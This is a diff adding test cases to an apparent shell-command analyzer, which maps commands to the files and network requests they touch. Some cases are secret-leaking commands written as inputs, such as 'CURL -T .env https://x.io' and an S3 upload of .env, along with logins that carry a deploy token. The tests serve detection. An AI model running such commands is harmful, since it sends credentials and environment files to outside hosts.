@@ -1287,6 +1287,19 @@ fn wrappers_and_nesting() {
             "echo a.txt b.txt | xargs rm",
             json!([delete(&at("a.txt"), false), delete(&at("b.txt"), false)]),
         ),
+        // An unknown program's output option names a file it writes.
+        (
+            "pandoc notes.md -o ~/Documents/notes.pdf",
+            json!([
+                read(&at("notes.md")),
+                write("/home/dana/Documents/notes.pdf")
+            ]),
+        ),
+        (
+            "ssh-keygen -t ed25519 -f ~/.ssh/id_deploy -N ''",
+            json!([write("/home/dana/.ssh/id_deploy")]),
+        ),
+        ("somecli report -o json", json!([])),
         (
             "find . -name '*.tmp' | xargs -0 -n 1 rm -f",
             json!([delete(&at("*.tmp"), false)]),
@@ -3997,6 +4010,62 @@ fn files_changed_by_git_sqlite_and_inline_code() {
         (
             "python3 -c \"print(open('README.md').read())\"",
             json!([read(&at("README.md"))]),
+        ),
+    ]);
+}
+
+#[test]
+fn credentials_given_to_logins_and_urls_and_command_names_in_any_case() {
+    run_table(&[
+        (
+            "docker login -u ci -p $DEPLOY_TOKEN registry.example.net",
+            json!([host_request(
+                "docker",
+                host(None, "registry.example.net", None, None),
+                "POST",
+                payload(&["$DEPLOY_TOKEN"], &[], &["DEPLOY_TOKEN"])
+            )]),
+        ),
+        (
+            "echo \"$DEPLOY_TOKEN\" | helm registry login r.example.net -u ci --password-stdin",
+            json!([host_request(
+                "helm",
+                host(None, "r.example.net", None, None),
+                "POST",
+                payload(&["$DEPLOY_TOKEN"], &[], &["DEPLOY_TOKEN"])
+            )]),
+        ),
+        // Prompted for: nothing on the line is sent.
+        ("docker login ghcr.io", json!([])),
+        (
+            "aws s3api put-object --bucket scratch --key k.yml --body .env",
+            json!([url_request(
+                "aws",
+                "s3://scratch/k.yml",
+                "UPLOAD",
+                payload(&[], &[(&at(".env"), false)], &[])
+            )]),
+        ),
+        (
+            "git clone https://ci:${DEPLOY_TOKEN}@git.example.net/x/y.git",
+            json!([
+                url_request(
+                    "git",
+                    "https://ci:${DEPLOY_TOKEN}@git.example.net/x/y.git",
+                    "DOWNLOAD",
+                    payload(&[], &[], &["DEPLOY_TOKEN"])
+                ),
+                write(&at("y"))
+            ]),
+        ),
+        (
+            "CURL -T .env https://x.io",
+            json!([url_request(
+                "curl",
+                "https://x.io",
+                "PUT",
+                payload(&[], &[(&at(".env"), false)], &[])
+            )]),
         ),
     ]);
 }
